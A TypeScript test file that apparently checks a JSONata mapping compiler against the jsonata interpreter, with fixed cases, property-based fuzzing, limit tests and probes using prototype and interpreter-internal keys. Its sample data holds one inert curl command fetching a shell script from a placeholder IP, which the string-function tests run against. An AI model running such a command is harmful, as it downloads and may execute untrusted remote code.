import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import jsonata from 'jsonata';
import { beforeAll, describe, expect, it } from 'vitest';
import { compileMapping } from './compile.ts';
import { Frame, type Native } from './compiled/callable.ts';
import { compiledForm, evaluateCompiled } from './compiled/mapping.ts';
import { nativesOf } from './compiled/natives.ts';
import { CornerError } from './compiled/outside.ts';
import { Run } from './compiled/run.ts';
import type { Jsonata } from './jsonata.ts';
import { LIMITS, MappingLimitError } from './limits.ts';
import { excessOf } from './size.ts';

/** PARAPET_FUZZ multiplies it and PARAPET_FUZZ_SEED plays other ones, as for the mappers. */
const RUNS = Math.ceil(3_000 * Number(process.env['PARAPET_FUZZ'] ?? 1));
const SEED = Number(process.env['PARAPET_FUZZ_SEED'] ?? 20_261_125);
const TIMEOUT = 120_000;

/** What one form made of a body. A failure is a failure: in operation the interpreter tells it, whichever form failed. */
type Made = { readonly value: unknown } | 'failed' | 'left' | 'too deep';

let natives: ReadonlyMap<string, Native>;
beforeAll(async () => {
  natives = await nativesOf(jsonata);
});

/** As it is read out: JSONata's lists carry marks of their own. */
function plain(value: unknown): Made {
  if (excessOf(value, LIMITS) !== undefined) return 'failed';
  const text = JSON.stringify(value);
  return { value: text === undefined ? undefined : JSON.parse(text) };
}

async function interpreted(text: string, body: unknown): Promise<Made> {
  const { milliseconds: timeout, recursion: stack, listLength: sequence } = LIMITS;
  const expression = jsonata(text, { timeout, stack, sequence });
  try {
    return plain(await expression.evaluate(structuredClone(body)));
  } catch (error) {
    const tooDeep = typeof error === 'object' && error !== null && 'code' in error && error.code === 'D1011';
    // Members of objects and lists are evaluated side by side there and all count as nested, so it stops earlier.
    return tooDeep ? 'too deep' : 'failed';
  }
}

function compiled(text: string, body: unknown): Made {
  const form = compiledForm(jsonata(text).ast());
  if (!form.ok) throw new Error(`${text} is not compiled: ${form.reason}`);
  try {
    const made = evaluateCompiled(form.code, structuredClone(body), natives, new Date());
    return made === undefined ? 'left' : plain(made.value);
  } catch (error) {
    return error instanceof CornerError ? 'left' : 'failed';
  }
}

async function stepsOf(text: string, body: unknown): Promise<number> {
  const typed: Jsonata = jsonata;
  const expression = typed(text);
  let steps = 0;
  expression.assign(Symbol.for('jsonata.__evaluate_entry'), () => {
    steps += 1;
  });
  await expression.evaluate(body);
  return steps;
}

function ourSteps(text: string, body: unknown): number {
  const form = compiledForm(jsonata(text).ast());
  if (!form.ok) throw new Error(form.reason);
  const run = new Run(body, natives, new Date());
  form.code(run, body, new Frame(undefined, []));
  return run.steps;
}

function parses(text: string): boolean {
  try {
    jsonata(text);
    return true;
  } catch {
    // The generator writes some that are no JSONata, such as a number as a step.
    return false;
  }
}

async function expectSame(text: string, body: unknown): Promise<void> {
  const [ours, theirs] = [compiled(text, body), await interpreted(text, body)];
  if (ours === 'left' || theirs === 'too deep') return;
  expect({ text, body, made: ours }).toEqual({ text, body, made: theirs });
}

const BODY = {
  n: 3,
  zero: 0,
  t: 'text',
  empty: '',
  yes: true,
  no: false,
  nil: null,
  o: { a: 1, b: { c: 'x', d: [1, 2] }, '': 'unnamed' },
  none: {},
  l: [1, 2, 3, 2],
  one: [7],
  void: [],
  words: ['b', 'a', 'c'],
  nested: [[1, 2], [3], []],
  deep: [{ k: [{ v: 1 }, { v: 2 }] }, { k: { v: 3 } }, { k: [] }, { x: 1 }, 5, null],
  rows: [
    { id: 'r1', kind: 'a', n: 3, tags: ['x', 'y'] },
    { id: 'r2', kind: 'b', n: 1, tags: ['z'] },
    { id: 'r3', kind: 'a', n: 2, tags: [] },
    { id: 'r4', kind: 'b', tags: 'one' },
  ],
  path: '/usr/bin/curl -s http://198.51.100.7/x.sh',
  time: '2025-10-21T03:12:44.120Z',
};

const EXPRESSIONS = [
  // Paths and their sequences.
  ...[
    'n',
    'o.a',
    'o.b.c',
    'o.b.d',
    'missing',
    'missing.a',
    'n.a',
    't.a',
    'l',
    'l.a',
    'one',
    'void',
    'void.a',
    'nil',
    'nil.a',
  ],
  ...[
    'deep.k',
    'deep.k.v',
    'deep.(k.v)',
    'rows.id',
    'rows.tags',
    'rows.tags[0]',
    'nested',
    'nested.a',
    '$',
    '$$',
    '$.n',
  ],
  ...[
    '$$.o.b',
    'o.""',
    '"n"',
    'o."b".c',
    'one[]',
    'o.a[]',
    'missing[]',
    'rows.tags[]',
    'rows[0].tags[]',
    'o.b.d[]',
    'rows.(id)',
  ],
  ...[
    '{"s": rows.tags}.s',
    '{"s": one}.s',
    '{"s": rows[0].id[]}.s',
    '({"s": rows.n}).s[1]',
    '[rows.id].a',
    '[o, rows].id',
  ],
  ...['o.[a, b]', 'rows.[id, n]', '[[1,2],[3]].a', 'rows.[tags]', '[rows].id', 'deep.[k]', 'rows.[id][0]'],
  ...['o.*', '*', 'rows.*', 'o.b.*', 'nested.*', 'o.**', '**.v', '**.d', 'l.*', 'n.*', 'one.*', 'none.*'],
  // Filters.
  ...[
    'l[0]',
    'l[-1]',
    'l[9]',
    'l[1.9]',
    'l[[0,2]]',
    'l[$ > 1]',
    'one[0]',
    'n[0]',
    'n[1]',
    'void[0]',
    'missing[0]',
    'missing[true]',
  ],
  ...[
    'rows[kind="a"]',
    'rows[kind="a"].id',
    'rows[kind="a"][0].id',
    'rows[n]',
    'rows[tags]',
    'rows[0][id="r1"]',
    '(rows.id)[1]',
  ],
  ...[
    'nested[0]',
    'nested[0][1]',
    'nested[[0..1]]',
    'rows.tags[$ = "x"]',
    'o[a=1].b',
    '[1,2,3][1]',
    '(l)[$ in [2,3]]',
    'l[true]',
    'l[false]',
  ],
  ...[
    'rows[id in $$.words]',
    'rows[n > 1 and kind = "a"].n',
    'l[nothing]',
    'rows[1].tags[0]',
    'l["x"]',
    'l[{}]',
    'l[[]]',
    'l[$$.n - 2]',
  ],
  // Constructors and groups.
  ...[
    '{}',
    '[]',
    '{"a": n, "b": missing}',
    '{"2": 1, "1": 2}',
    '{t: n}',
    '{n: 1}',
    '{missing: 1}',
    '{"a": 1, "a": 2}',
    '{t: 1, "text": 2}',
  ],
  ...[
    '[n, missing, l, [l], [[]]]',
    '["[", one]',
    '[1..3]',
    '[l, 1..2]',
    '[3..1]',
    '[missing..2]',
    '["a"..2]',
    '[1.5..2]',
    '[0..20000]',
  ],
  ...[
    'rows{kind: n}',
    'rows{kind: $sum(n)}',
    'rows{kind: id}.a',
    'rows.{"i": id, "t": tags}',
    'rows.{id: n}',
    'rows{id: $}',
    'void.{"a": 1}',
  ],
  ...[
    'rows[kind="b"]{id: tags}',
    'missing{"a": 1}',
    'void{"a": 1}',
    '(rows){kind: $count($)}',
    '{"x": rows}{"y": x.id}',
    'l{"a": $}',
    '{"__proto__": n}',
  ],
  // Operators.
  ...[
    '1+2',
    'n*2-1',
    'n/zero',
    'n%2',
    'missing+1',
    't+1',
    '1+t',
    'nil+1',
    '-n',
    '-missing',
    '-t',
    '1e308*10',
    '-(1)',
    'l+1',
    'n - -1',
  ],
  ...[
    'n=3',
    'n="3"',
    'l=[1,2,3,2]',
    'o={"a":1}',
    'o.b={"d":[1,2],"c":"x"}',
    'missing=missing',
    'missing!=1',
    'nil=null',
    'one=7',
    '[]=void',
    '[1]=one',
    'l={}',
  ],
  ...[
    'n<4',
    'n<=3',
    't>"a"',
    't>=t',
    'n<t',
    'n<missing',
    'nil<1',
    'l<1',
    'true<false',
    'missing<missing',
    'missing<nil',
  ],
  ...[
    'n and t',
    'zero or empty',
    'missing and 1',
    'void or nil',
    'no or none',
    'yes and one',
    '[0] or [0,0]',
    '[[],0] and 1',
    '[0,1] and 1',
  ],
  ...[
    't & n',
    'missing & t',
    'nil & o',
    'l & yes',
    '0.1+0.2 & ""',
    'rows.id & ""',
    'rows[0].id[] & ""',
    '$ & ""',
    '"a" in words',
    '1 in l',
    'n in n',
    'missing in l',
    'l in l',
    'l in [l]',
  ],
  ...[
    'yes ? 1 : 2',
    'zero ? 1 : 2',
    'zero ? 1',
    'missing ? 1 : l',
    't ?: 1',
    'empty ?: 1',
    'missing ?? 2',
    'nil ?? 2',
    'rows ? rows.id : 0',
  ],
  // Blocks, variables, functions.
  ...[
    '()',
    '(1; 2)',
    '($a := 1; $a + 1)',
    '($a := l; $a[1])',
    '($a := 1; ($a := 2; $a) + $a)',
    '($a := 1; ($b := $a; $a := 2; $b))',
    '($a := n)',
  ],
  ...[
    '($f := function($x){ $x * 2 }; $f(n))',
    '($f := function($x){ $x }; $f())',
    '($f := function($x, $y){ $y }; $f(1))',
    'function($x){ $x + 1 }(2)',
  ],
  ...[
    '($f := function($x){ $x <= 1 ? 1 : $x * $f($x - 1) }; $f(10))',
    '($f := function($x, $s){ $x = 0 ? $s : $f($x - 1, $s + $x) }; $f(500, 0))',
  ],
  ...[
    '($f := function($x){ $x <= 1 ? 1 : $x * $f($x - 1) }; $f(1000))',
    '($f := function(){ n }; o.$f())',
    '($f := function($x){ $uppercase($x) }; $f(t))',
  ],
  ...[
    'o.b.($f := function(){ $uppercase() }; $f())',
    't.($f := function(){ $uppercase() }; $f())',
    '($g := $uppercase; $g(t))',
    '($g := $f; $f := 1; $g)',
  ],
  ...[
    '($f := function($g, $x){ $g($x) }; $f($uppercase, t))',
    '($f := function($g){ $map(l, $g) }; $f(function($x){ $x + 1 }))',
    '($f := function($g){ $map(words, $g) }; $f($uppercase))',
  ],
  ...[
    '($f := function($l){ $map($l, $uppercase) }; $f(words))',
    '($f := function($l){ $map($l, function($x){ $x }) }; $f(words))',
    '($a := function(){ $b }; $b := 4; $a())',
    '($string := 5; $string)',
  ],
  ...[
    't ~> $uppercase',
    't ~> $uppercase()',
    'l ~> $sum() ~> $string',
    'path ~> $split(" ")',
    'l ~> $map(function($x){ $x * 2 })',
    '($f := function($x){ $x[0] }; l ~> $f)',
  ],
  // Functions of jsonata.
  ...[
    '$string(n)',
    '$string(o)',
    '$string(missing)',
    '$string(nil)',
    '$string(o, true)',
    '$number("12")',
    '$number(t)',
    '$number(yes)',
    '$number("0x1F")',
    '$number(nil)',
  ],
  ...[
    '$substring(path, 1)',
    '$substring(path, -4)',
    '$substring(path, 0, 3)',
    'path.$substring(5, 3)',
    '$substring(n, 1)',
    '$substringBefore(path, " ")',
    '$substringAfter(path, "-s ")',
    'path.$substringAfter(" ")',
  ],
  ...[
    '$uppercase(t)',
    '$uppercase(n)',
    '$uppercase(missing)',
    't.$uppercase()',
    '$uppercase(t, t)',
    '$lowercase("ABC")',
    '$length(t)',
    '$trim("  a  b ")',
    '$length(missing)',
    'words.$uppercase($)',
    '$uppercase()',
  ],
  ...[
    '$join(words, ",")',
    '$join(words)',
    '$join(l)',
    '$join(t, "-")',
    '$join(missing)',
    '$sum(l)',
    '$sum(n)',
    '$sum(words)',
    '$count(l)',
    '$count(n)',
    '$count(missing)',
    '$max(l)',
    '$min(void)',
    '$average(l)',
  ],
  ...[
    '$exists(n)',
    '$exists(missing)',
    '$exists(nil)',
    '$not(n)',
    '$not(missing)',
    '$boolean(void)',
    '$boolean(missing)',
    '$type(n)',
    '$type(nil)',
    '$type(rows)',
    '$keys(o)',
    '$keys(rows)',
    '$keys(n)',
  ],
  ...[
    '$lookup(o, "a")',
    '$lookup(rows, "id")',
    '$lookup(o, "toString")',
    '$lookup(o, missing)',
    '$append(l, n)',
    '$append(missing, n)',
    '$merge([o, {"a": 5}])',
    '$merge(rows)',
    '$merge(l)',
    '$spread(o)',
    '$spread(rows[0])',
  ],
  ...[
    '$reverse(l)',
    '$distinct(l)',
    '$zip(l, words)',
    '$zip(n, l)',
    '$sort(words)',
    '$sort(l)',
    '$sort(rows)',
    '$sort(one)',
    '$sort(rows.n)',
    '$sort(rows, function($a, $b){ $a.n > $b.n }).id',
    '$sort(missing)',
    '$sort(l, $max)',
  ],
  ...[
    '$floor(1.5)',
    '$ceil(-1.5)',
    '$round(2.5)',
    '$round(1.2345, 2)',
    '$abs(-3)',
    '$sqrt(9)',
    '$sqrt(-1)',
    '$power(2, 10)',
    '$power(10, 999)',
    '$formatNumber(1234.5, "#,##0.00")',
    '$formatBase(255, 16)',
  ],
  ...[
    '$toMillis(time)',
    '$toMillis(t)',
    '$fromMillis(1761016364120)',
    '$fromMillis(1761016364120, "[Y]-[M01]")',
    '$base64encode(t)',
    '$base64decode("dGV4dA==")',
    '$encodeUrlComponent("a b")',
    '$decodeUrl("%")',
    '$clone(o)',
    '$clone(n)',
  ],
  ...[
    '$error("no")',
    '$error()',
    '$assert(n = 3)',
    '$assert(n = 4, "no")',
    '($assert(yes); 1)',
    '$formatInteger(12, "w")',
    '$parseInteger("12", "0")',
  ],
  ...[
    '$contains(path, "curl")',
    '$contains(path, /CURL/i)',
    '$contains(path, /^x/)',
    '$contains(missing, "a")',
    '$contains(n, "a")',
    '$contains(path, "")',
    'words[$contains($, /[ab]/)]',
  ],
  ...[
    '$match(path, /[a-z]+/)',
    '$match(path, /[a-z]+/, 2)',
    '$match(path, /[a-z]+/, 0)',
    '$match(path, /[a-z]+/, -1)',
    '$match(path, /([a-z]+):(\\/\\/)(x)?/)',
    '$match(path, /zzz/)',
    '$match(path, /zzz/)[0].match',
    '$match(path, /[0-9]+/)[1].match',
    '$match(t, /x*/)',
    '$match("", /x*/)',
    '$match(path, "curl")',
  ],
  ...[
    '$replace(path, "/", "_")',
    '$replace(path, "/", "_", 2)',
    '$replace(path, /[0-9]+/, "<$0>")',
    '$replace(path, /([0-9]+)[.]([0-9]+)/, "$2-$1-$3-$$-$x-$")',
    '$replace(path, /\\//, "", 1)',
    '$replace(t, "", "x")',
    '$replace(t, /x*/, "y")',
    '$replace(t, "x", "$0$1")',
    '$replace(missing, "a", "b")',
    '$replace(t, "t", "b", -1)',
    '$replace(t, /t/, "$1")',
    '$replace("abcdefghijkl", /(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)(l)/, "$12-$1-$123-$13")',
    '$replace(t, /t/, "b", 1.5)',
    '$replace(t, /zz/, "b")',
  ],
  ...[
    '$split(path, " ")',
    '$split(path, / +/)',
    '$split(path, "/", 2)',
    '$split(path, /\\//, 2)',
    '$split(path, "")',
    '$split(t, /x*/)',
    '$split(path, " ", 0)',
    '$split(path, " ", -1)',
    '$split(path, /zzz/)',
    '($p := /[a-z]+/; $match(path, $p)[0].match & $match(path, $p)[1].match)',
    '($f := function($p){ $contains(t, $p) }; $f(/t/))',
  ],
  ...[
    '$map(l, function($x, $i){ $x * $i })',
    '$map(l, function($x, $i, $a){ $count($a) })',
    '$map(words, $uppercase)',
    '$map(missing, $string)',
    '$map(n, function($x){ $x })',
    '$map(rows, function($r){ $r.n })',
    '$map(l, function(){ 1 })',
    '$map(l, $string)',
    '$map(words, $substring)',
  ],
  ...[
    '$filter(l, function($x){ $x > 1 })',
    '$filter(rows, function($r, $i){ $i > 0 and $r.n }).id',
    '$filter(missing, $exists)',
    '$single(rows, function($r){ $r.id = "r2" }).n',
    '$single(l, function($x){ $x = 2 })',
    '$single(l, function($x){ $x = 9 })',
    '$single(one)',
  ],
  ...[
    '$reduce(l, function($a, $b){ $a + $b })',
    '$reduce(l, function($a, $b, $i, $l){ $a & $b & $i & $count($l) }, "")',
    '$reduce(l, function($a){ $a })',
    '$reduce(missing, function($a, $b){ $a })',
    '$reduce(void, function($a, $b){ $a })',
    '$reduce(void, function($a, $b){ $a }, 5)',
  ],
  ...[
    '$each(o, function($v, $k){ $k & "=" & $v })',
    '$sift(o, function($v, $k){ $k = "a" })',
    '$sift(o, function($v){ $v = 9 })',
    'o.$sift(function($v){ $v })',
    '$each(none, function($v){ $v })',
    '$each(l, function($v){ $v })',
  ],
  // Order.
  ...[
    'rows^(n).id',
    'rows^(>n).id',
    'rows^(kind, >id).id',
    'rows^(tags)',
    'l^($)',
    'words^(>$)',
    'rows^(n)[0].id',
    'rows^(missing).id',
    '(rows^(n)).id',
    'one^($)',
    'deep^(x)',
    'missing^(a)',
    'rows[n]^(n).n',
  ],
  // Reaching where nothing is.
  ...[
    'constructor',
    '__proto__',
    'o.toString',
    '$$.constructor.constructor',
    'o.hasOwnProperty',
    '$keys($$.__proto__)',
    't.length',
    'l.length',
  ],
];

/** Outside the compiled part, with the reason that is told. */
const INTERPRETED: readonly (readonly [text: string, reason: string])[] = [
  ['rows.tags.%.id', 'it uses %, @ or #'],
  ['rows@$r.tags.{"id": $r.id}', 'it uses %, @ or #'],
  ['rows#$i.id', 'it uses %, @ or #'],
  ['$map(words, $substringBefore(?, "x"))', 'it fills in a function in part (?)'],
  ['o ~> |b|{"c": 1}|', 'it uses the transform operator | |'],
  ['($f := function($x)<n:n>{ $x }; $f(1))', 'a function declares the types of its parameters'],
  ['{"a": $x := 1}', 'it binds $x within an expression'],
  ['$x := 1', 'it binds $x within an expression'],
  ['{"f": $uppercase}', 'it uses the function $uppercase as a value'],
  ['function($x){ $x }', 'a function stands where a value is expected'],
  ['/x/', 'a pattern stands where a value is expected'],
  ['uppercase(t)', 'it calls what has no name'],
  ['$nothing(1)', 'it uses $nothing, which is not compiled'],
  ['$replace(t, /t/, function($m){ $m.match })', 'it replaces by a function'],
  ['$trim ~> $uppercase', 'it uses the function $trim as a value'],
  ['[rows][0].id', 'a path begins with a list in brackets that is filtered'],
  ['{"_jsonata_lambda": 1}', 'it has the key _jsonata_lambda'],
];

/** Bodies of the names the expressions ask for, with every kind of value under each. */
const NAMES = ['a', 'b', 'c', 'n', 'rows'] as const;
const scalar = fc.oneof(
  fc.constantFrom(null, true, false, 0, 1, -1, 2.5, '', 'a', 'b', 'text', '12'),
  fc.string({ unit: 'binary', maxLength: 5 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);
const { body } = fc.letrec<{ body: unknown }>((tie) => ({
  body: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    scalar,
    fc.array(tie('body'), { maxLength: 4 }),
    fc.dictionary(fc.constantFrom(...NAMES, 'length', '0', '__proto__'), tie('body'), { maxKeys: 5 }),
  ),
}));

const word = fc.constantFrom(
  ...NAMES,
  '$',
  '$$',
  '$v',
  '$w',
  '*',
  '**',
  'true',
  'null',
  '0',
  '1',
  '2',
  '-1',
  '"a"',
  '"b"',
  '"12"',
);
const PATTERNS = ['/[a-z]/', '/(a)|b/', '/a*/', '/[0-9]+/i'] as const;
const ONE = [
  '$string',
  '$number',
  '$uppercase',
  '$count',
  '$sum',
  '$max',
  '$keys',
  '$not',
  '$exists',
  '$boolean',
  '$merge',
  '$spread',
  '$distinct',
  '$reverse',
  '$type',
  '$length',
  '$trim',
  '$sort',
  '$single',
  '$join',
  '$average',
] as const;
const TWO = [
  '$append',
  '$lookup',
  '$zip',
  '$join',
  '$substringAfter',
  '$contains',
  '$split',
  '$substring',
  '$power',
  '$match',
] as const;
const HIGHER = ['$map', '$filter', '$each', '$sift', '$single', '$reduce', '$sort'] as const;
const OPERATORS = [
  '+',
  '-',
  '*',
  '/',
  '%',
  '=',
  '!=',
  '<',
  '<=',
  '>',
  '>=',
  '&',
  'in',
  'and',
  'or',
  '..',
  '?:',
  '??',
] as const;
const { expression } = fc.letrec<{ expression: string }>((tie) => {
  const one = tie('expression');
  const made = (write: (...parts: string[]) => string, ...parts: fc.Arbitrary<string>[]) =>
    fc.tuple(...parts).map((values) => write(...values));
  return {
    expression: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      word,
      made((left, right) => `${left}.${right}`, word, one),
      made((left, right) => `(${left}).(${right})`, one, one),
      made((left, by) => `(${left})[${by}]`, one, one),
      made((left, name, by) => `${left}.${name}[${by}]`, word, fc.constantFrom(...NAMES), one),
      made((left, name) => `${left}.${name}[]`, word, fc.constantFrom(...NAMES)),
      made((left) => `(${left})[]`, one),
      made((left, operator, right) => `(${left}) ${operator} (${right})`, one, fc.constantFrom(...OPERATORS), one),
      made((left) => `-(${left})`, one),
      made((when, yes, no) => `((${when}) ? (${yes}) : (${no}))`, one, one, one),
      made((first, second) => `[${first}, ${second}]`, one, one),
      made((first, second) => `{"x": ${first}, "y": ${second}}`, one, one),
      made((key, value) => `{$string(${key}): ${value}}`, one, one),
      made((of, key, value) => `(${of}){$string(${key}): ${value}}`, one, one, one),
      made((of, value) => `${of}.{"x": ${value}}`, word, one),
      made((of, first, second) => `${of}.[${first}, ${second}]`, word, one, one),
      made((of, by) => `${of}^(${by}, >b)`, fc.constantFrom(...NAMES), one),
      made((value, then) => `($v := ${value}; ${then})`, one, one),
      made((body_, arg, then) => `($w := function($v, $x){ ${body_} }; $w(${arg}) & (${then}))`, one, one, one),
      made((name, arg) => `${name}(${arg})`, fc.constantFrom(...ONE), one),
      made((name, arg) => `${arg}.${name}()`, fc.constantFrom(...ONE), word),
      made((name, first, second) => `${name}(${first}, ${second})`, fc.constantFrom(...TWO), one, one),
      made((arg, name) => `(${arg}) ~> ${name}()`, one, fc.constantFrom(...ONE)),
      made((name, list, by) => `${name}(${list}, function($v, $w){ ${by} })`, fc.constantFrom(...HIGHER), one, one),
      made((arg, pattern) => `$match(${arg}, ${pattern})`, one, fc.constantFrom(...PATTERNS)),
      made((arg, pattern) => `$split(${arg}, ${pattern})`, one, fc.constantFrom(...PATTERNS)),
      made((arg, pattern) => `$replace(${arg}, ${pattern}, "<$0$1>")`, one, fc.constantFrom(...PATTERNS)),
    ),
  };
});

const EXAMPLES = join(import.meta.dirname, 'examples');
const MAPPING = readFileSync(join(EXAMPLES, 'tetragon-export.jsonata'), 'utf8');
const EXPORT = JSON.parse(readFileSync(join(EXAMPLES, 'tetragon-export.json'), 'utf8'));

function outside(text: string): string | undefined {
  const form = compiledForm(jsonata(text).ast());
  return form.ok ? undefined : form.reason;
}

describe('a compiled mapping', () => {
  it.each(EXPRESSIONS)('makes of the sample what the interpreter makes: %s', async (text) => {
    await expectSame(text, BODY);
    await expectSame(text, [BODY, { n: 1, rows: [{ id: 't' }] }]);
  });

  it('makes of any body what the interpreter makes, for any expression of its part of the language', {
    timeout: TIMEOUT,
  }, async () => {
    let [compared, values] = [0, 0];
    await fc.assert(
      fc.asyncProperty(expression, body, async (text, value) => {
        if (!parses(text) || outside(text) !== undefined) return;
        await expectSame(text, value);
        compared += 1;
        if (typeof compiled(text, value) === 'object') values += 1;
      }),
      { numRuns: RUNS, seed: SEED },
    );
    // Otherwise nearly nothing, or failures only, would have been compared.
    expect(compared).toBeGreaterThan(RUNS / 2);
    expect(values).toBeGreaterThan(RUNS / 5);
  });

  it('makes of any mutation of its example what the interpreter makes', { timeout: TIMEOUT }, async () => {
    const [event] = EXPORT.events;
    const change = fc.dictionary(
      fc.constantFrom(...Object.keys(event)),
      fc.oneof(body, fc.jsonValue({ maxDepth: 3 })),
      { maxKeys: 3 },
    );
    await fc.assert(
      fc.asyncProperty(fc.array(change, { maxLength: 3 }), async (changes) => {
        await expectSame(MAPPING, { ...EXPORT, events: changes.map((one) => ({ ...event, ...one })) });
      }),
      { numRuns: 200, seed: SEED },
    );
  });
});

describe('what is not compiled', () => {
  it.each(INTERPRETED)('%s is interpreted as a whole, and says why', (text, reason) => {
    expect(outside(text)).toBe(reason);
    expect(compileMapping(jsonata, text)).toMatchObject({
      ok: true,
      mapping: { note: `the mapping is interpreted, which is many times slower than compiled: ${reason}` },
    });
  });

  it('still gives the answer of the interpreter', async () => {
    const mapping = compileMapping(jsonata, 'rows#$i.{"id": id, "i": $i}');
    expect(mapping.ok && (await mapping.mapping.evaluate({ rows: [{ id: 'x' }] }))).toEqual({
      ok: true,
      value: { id: 'x', i: 0 },
    });
  });

  it.each(['tupleStream', 'outerWrapper', '_jsonata_lambda', '_jsonata_function'])(
    'is a body that names %s, which the interpreter takes for its own',
    async (mark) => {
      const hostile = { a: [{ [mark]: true, b: 1 }] };
      const form = compiledForm(jsonata('a.b').ast());
      expect(form.ok && evaluateCompiled(form.code, hostile, natives, new Date())).toBeUndefined();
      // A key of the alert becomes a key of what is made.
      expect(compiled('{ k: 1 }', { k: mark })).toBe('left');
      const mapping = compileMapping(jsonata, 'a.{"kept": $}');
      const theirs = await interpreted('a.{"kept": $}', hostile);
      expect(mapping.ok && (await mapping.mapping.evaluate(hostile))).toMatchObject(
        typeof theirs === 'object' ? { ok: true, ...theirs } : { ok: false },
      );
    },
  );

  it('is a failure: the interpreter tells it in its own words', async () => {
    const mapping = compileMapping(jsonata, 'n + t');
    expect(mapping.ok && mapping.mapping.note).toBeUndefined();
    expect(mapping.ok && (await mapping.mapping.evaluate(BODY))).toEqual({
      ok: false,
      reason: 'the mapping failed on this body: The right side of the "+" operator must evaluate to a number',
    });
  });
});

describe('the limits of a compiled mapping', () => {
  it('are reached at the same step as in the interpreter, so that neither form refuses what the other takes', async () => {
    for (const [text, size] of [
      ['l.(a.b)', 3_000],
      ['l.{"a": a, "b": a.b & "x"}', 3_000],
      ['l[a.b = 1].a{"k": b}', 3_000],
      ['$map(l, function($x){ $x.a.b + 1 })', 3_000],
      ['($f := function($n){ $n = 0 ? 0 : $f($n - 1) }; $f($count(l)))', 100],
    ] as const) {
      const list = (length: number) => ({ l: Array.from({ length }, () => ({ a: { b: 1 } })) });
      const theirs = await stepsOf(text, list(size));
      expect([text, ourSteps(text, list(size))]).toEqual([text, theirs]);
    }
  });

  it('end a loop that makes nothing deeper', () => {
    const form = compiledForm(jsonata('($f := function($n){ $f($n + 1) }; $f(1))').ast());
    expect(form.ok).toBe(true);
    if (form.ok) expect(() => evaluateCompiled(form.code, {}, natives, new Date())).toThrow(MappingLimitError);
  });

  it('end an evaluation that has taken too long, whatever it is doing', () => {
    const form = compiledForm(jsonata('$uppercase("x")').ast());
    const longAgo = new Date(Date.now() - LIMITS.milliseconds - 1_000);
    if (form.ok)
      expect(() => evaluateCompiled(form.code, {}, natives, longAgo)).toThrow(/^Evaluation timeout after 3000/);
    expect(form.ok).toBe(true);
  });
});
